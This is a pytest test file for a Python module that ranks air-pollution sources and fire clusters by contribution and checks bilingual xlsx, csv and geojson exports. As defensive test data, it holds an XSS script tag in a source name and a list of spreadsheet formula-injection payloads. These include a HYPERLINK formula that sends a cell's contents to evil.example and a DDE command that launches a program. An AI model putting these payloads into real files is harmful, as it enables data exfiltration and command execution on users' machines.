"""Priority list: ranking rule, scores, station/distance/bearing, pass-through, exports, formula safety."""

import csv

import geopandas as gpd
import numpy as np
import pandas as pd
import pytest
from shapely import box

from geoair.coords import gcj02_to_wgs84
from geoair.priority import PRIORITY_COLUMNS, export_priority, how_to_read, priority_list


def _inputs():
    sources = gpd.GeoDataFrame(
        {"source_id": ["s1", "s2", "s3", "s4"], "name": ["钢厂<script>alert(1)</script>", "Plant B", "Site C", "Zero D"],
         "kind": ["steel_plant", "power_plant", "construction", "power_plant"],
         "category": ["industry", "coal", "dust", "coal"],
         "地址": ["河北省某市某路1号", None, "", "x"], "统一社会信用代码": ["91130100MA0XXXXX1Y", None, None, None]},
        geometry=gpd.points_from_xy([116.40, 116.80, 117.30, 116.5], [39.90, 39.95, 39.50, 39.7]), crs="EPSG:4326")
    scores = pd.DataFrame({
        "source_id": ["s1", "s1", "s2", "s3", "s4"], "station": ["1001A", "1002A", "1001A", "1003A", "1001A"],
        "contribution": [5.04, 2.0, 3.0, 0.08, 0.04], "lower": [2.0, 0.5, 0.5, -0.5, 0.0],
        "upper": [8.0, 3.0, 6.0, 2.0, 0.1], "hours_upwind": [120, 40, 80, 30, 0],
        "exceedance_hours_explained": [25.0, 4.0, 6.0, 12.0, 118.0]})
    counties = gpd.GeoDataFrame({"adcode": ["110101", "130000"], "name": ["东城区", "河北"], "city": ["北京市", pd.NA]},
                                geometry=[box(116, 39.5, 117, 40.5), box(117, 39, 118, 40)], crs="EPSG:4326")
    stations = gpd.GeoDataFrame({"station": ["1001A", "1002A", "1003A"], "name": ["万寿西宫", "定陵", "东四"]},
                                geometry=gpd.points_from_xy([116.40, 116.80, 117.30], [40.00, 39.95, 39.60]),
                                crs="EPSG:4326")
    fc = gpd.GeoDataFrame({"cluster": [0, 1], "n_fires": [12, 3], "frp_sum": [300.0, 20.0],
                           "last": pd.to_datetime(["2022-06-04 13:00", "2022-05-20 13:00"]).tz_localize("Asia/Shanghai")},
                          geometry=gpd.points_from_xy([117.5, 116.5], [39.2, 40.2]), crs="EPSG:4326")
    return scores, sources, counties, stations, fc


@pytest.fixture
def table():
    scores, sources, counties, stations, fc = _inputs()
    return priority_list(scores, sources, counties, stations=stations, fire_clusters=fc, lang="en")


def test_ranking_levels_and_evidence(table):
    t = table
    assert list(t.columns[:-1]) == list(PRIORITY_COLUMNS)
    # s1: interval excludes 0 and 25 h >= red_hours -> red; its best station is 1001A
    assert t.iloc[0]["source_id"] == "s1" and t.iloc[0]["level"] == "red"
    assert t.iloc[0]["station"] == "1001A" and t.iloc[0]["county"] == "东城区" and t.iloc[0]["city"] == "北京市"
    # fire cluster 0: 12 detections at the reference time -> red; cluster 1 is 15 days old -> green
    # s2: significant, 6 h < red_hours -> yellow; s3: 12 h but 0.08 µg/m³ < min_contribution/10 -> green
    lv = dict(zip(t["source_id"], t["level"], strict=True))
    assert lv == {"s1": "red", "fire-0": "red", "s2": "yellow", "s3": "green", "fire-1": "green"}
    assert np.isnan(t.set_index("source_id").loc["fire-0", "contribution"])  # not invented
    assert "weak evidence" in t.set_index("source_id").loc["s3", "evidence"]
    assert list(t["rank"]) == [1, 2, 3, 4, 5]
    # within a level, sources with attribution evidence come before fire clusters
    assert list(t["source_id"]) == ["s1", "fire-0", "s2", "s3", "fire-1"]


def test_zero_contribution_rows_are_dropped_and_logged(table):
    """No row may say '0.0 µg/m³ ... explaining 118 exceedance hours'."""
    assert "s4" not in set(table["source_id"])
    summary = table.attrs["droplog"].summary()
    assert summary.loc[summary["reason"].str.contains("rounds to 0.0"), "n"].sum() == 1
    src = table[table["group"] == "source"]
    assert (src["contribution"] > 0).all()
    assert not src["evidence"].str.contains(r"\b0\.0 µg/m³").any()


def test_scores_are_documented_and_never_mixed(table):
    t = table.set_index("source_id")
    # sources: exceedance hours x min(1, c / 1 µg/m³) x (0.5 if the interval includes zero)
    assert t.loc["s1", "score"] == pytest.approx(25.0)
    assert t.loc["s2", "score"] == pytest.approx(6.0)
    assert t.loc["s3", "score"] == pytest.approx(round(12.0 * 0.08 * 0.5, 1))
    # fire clusters: detections x 0.5 ** (age / 7 days); cluster 1 is 15 days older than cluster 0
    assert t.loc["fire-0", "score"] == pytest.approx(12.0)
    assert t.loc["fire-1", "score"] == pytest.approx(round(3 * 0.5 ** (15 / 7), 1))
    units = t.groupby("group")["score_unit"].unique()
    assert list(units["source"]) == ["weighted exceedance hours (h)"]
    assert list(units["fire_cluster"]) == ["recency-weighted detections"]


def test_station_name_distance_and_bearing(table):
    t = table.set_index("source_id")
    # s1 at (116.40, 39.90), its station 1001A at (116.40, 40.00): 0.1 deg of latitude due north
    assert t.loc["s1", "station_name"] == "万寿西宫"
    assert t.loc["s1", "distance_km"] == pytest.approx(11.1, abs=0.05)  # 111.0 km per degree at 40 N
    assert t.loc["s1", "bearing_deg"] == 0 and t.loc["s1", "bearing"] == "N"
    # s3 at (117.30, 39.50) and 1003A at (117.30, 39.60): north; s2 and 1001A: 0.4 deg west, 0.05 N
    assert t.loc["s3", "bearing"] == "N"
    assert t.loc["s2", "bearing"] == "W" and 270 < t.loc["s2", "bearing_deg"] < 290
    from pyproj import Geod

    az, _, d = Geod(ellps="WGS84").inv(116.80, 39.95, 116.40, 40.00)
    assert t.loc["s2", "distance_km"] == pytest.approx(round(d / 1000, 1))
    assert "11.1 km to its N" in t.loc["s1", "evidence"] and "万寿西宫" in t.loc["s1", "evidence"]
    zh = priority_list(*_inputs()[:3], stations=_inputs()[3], lang="zh").set_index("source_id")
    assert zh.loc["s1", "bearing"] == "北" and "站点在其北方向11.1公里处" in zh.loc["s1", "evidence"]


def test_rounding_and_pass_through(table):
    t = table.set_index("source_id")
    assert t.loc["s1", "contribution"] == 5.0  # 5.04 -> 0.1 µg/m³
    for c in ("lon_wgs84", "lat_wgs84", "lon_gcj02", "lat_gcj02"):
        v = table[c].to_numpy(dtype=float)
        np.testing.assert_array_equal(v, np.round(v, 6))
    assert t.loc["s1", "address"] == "河北省某市某路1号"
    assert t.loc["s1", "credit_code"] == "91130100MA0XXXXX1Y"
    assert t.loc["s2", "address"] == "" and t.loc["fire-0", "credit_code"] == ""


def test_exports_both_languages_and_coordinates(tmp_path, table):
    openpyxl = pytest.importorskip("openpyxl")
    t = table
    for lang in ("zh", "en"):
        files = export_priority(t, tmp_path, lang=lang)
        wb = openpyxl.load_workbook(files["xlsx"])
        ws = wb.worksheets[0]
        header = [c.value for c in ws[1]]
        assert header == [PRIORITY_COLUMNS[c][lang] for c in PRIORITY_COLUMNS]
        assert ws.freeze_panes == "A2"
        assert ws.auto_filter.ref == f"A1:{openpyxl.utils.get_column_letter(len(header))}{len(t) + 1}"
        assert ws.column_dimensions["A"].width >= 8
        howto = wb.worksheets[1]
        assert howto.title == {"zh": "阅读说明", "en": "how to read"}[lang]
        guide = {r[0]: r[1] for r in howto.iter_rows(min_row=2, values_only=True)}
        assert PRIORITY_COLUMNS["score"][lang] in guide and PRIORITY_COLUMNS["level"][lang] in guide
        rows = list(ws.iter_rows(min_row=2, values_only=True))
        assert len(rows) == len(t)
        h = {name: i for i, name in enumerate(header)}
        for row in rows:
            sid = row[h[PRIORITY_COLUMNS["source_id"][lang]]]
            src = t.set_index("source_id").loc[sid].geometry
            lon_w, lat_w = gcj02_to_wgs84(row[h[PRIORITY_COLUMNS["lon_gcj02"][lang]]],
                                          row[h[PRIORITY_COLUMNS["lat_gcj02"][lang]]])
            # metres on the ground: 6 decimals are 0.1 m, the inverse conversion < 1 m
            d = np.hypot((lon_w - src.x) * 111_320 * np.cos(np.radians(src.y)), (lat_w - src.y) * 110_574)
            assert d < 1.0
            assert abs(row[h[PRIORITY_COLUMNS["lon_wgs84"][lang]]] - src.x) < 1e-6
        levels = {r[h[PRIORITY_COLUMNS["level"][lang]]] for r in rows}
        assert levels <= ({"红", "黄", "绿"} if lang == "zh" else {"red", "yellow", "green"})
        csv_ = pd.read_csv(files["csv"], encoding="utf-8-sig")
        assert list(csv_.columns) == header
    g = gpd.read_file(files["geojson"])
    assert len(g) == len(t) and g.crs.to_epsg() == 4326


EVIL = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(1,1)",
        "\t=1+1", "\r=1+1"]


def test_formula_injection_neutralised(tmp_path):
    openpyxl = pytest.importorskip("openpyxl")
    scores, sources, counties, stations, _ = _inputs()
    n = len(EVIL)
    sources = gpd.GeoDataFrame({"source_id": [f"e{i}" for i in range(n)], "name": EVIL, "kind": "construction",
                                "category": "dust", "address": EVIL[::-1]},
                               geometry=gpd.points_from_xy(np.linspace(116.3, 116.7, n), [39.9] * n), crs="EPSG:4326")
    scores = pd.DataFrame({"source_id": sources["source_id"], "station": "1001A", "contribution": 2.0,
                           "lower": 1.0, "upper": 3.0, "hours_upwind": 5.0, "exceedance_hours_explained": 20.0})
    table = priority_list(scores, sources, counties, stations=stations, lang="en")
    files = export_priority(table, tmp_path, lang="en", formats=("xlsx", "csv"))
    ws = openpyxl.load_workbook(files["xlsx"]).worksheets[0]
    header = [c.value for c in ws[1]]
    name_col = header.index(PRIORITY_COLUMNS["name"]["en"]) + 1
    addr_col = header.index(PRIORITY_COLUMNS["address"]["en"]) + 1
    seen = []
    for r in range(2, ws.max_row + 1):
        for col in (name_col, addr_col):
            cell = ws.cell(row=r, column=col)
            assert cell.data_type == "s", (cell.value, cell.data_type)  # text, never "f" (formula)
        seen.append(ws.cell(row=r, column=name_col).value)
    # the visible name is kept exactly (XML reads a stored CR back as LF)
    assert sorted(seen) == sorted(e.replace("\r", "\n") for e in EVIL)
    # CSV: raw text, every such cell starts with an apostrophe (OWASP)
    with open(files["csv"], encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    names = [r[rows[0].index(PRIORITY_COLUMNS["name"]["en"])] for r in rows[1:]]
    assert sorted(names) == sorted("'" + e for e in EVIL)
    for r in rows[1:]:
        for cell in r:
            assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
            assert not cell.startswith("-") or _is_number(cell), cell


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def test_how_to_read_states_the_rules():
    en = how_to_read({"red_hours": 12.0}, "en")
    text = " ".join(en.iloc[:, 1])
    assert ">= 12 exceedance hours" in text and "never added or compared" in text
    zh = how_to_read({}, "zh")
    assert "两种得分含义不同" in " ".join(zh.iloc[:, 1])


def test_empty():
    out = priority_list(None)
    assert len(out) == 0 and list(out.columns[:-1]) == list(PRIORITY_COLUMNS)
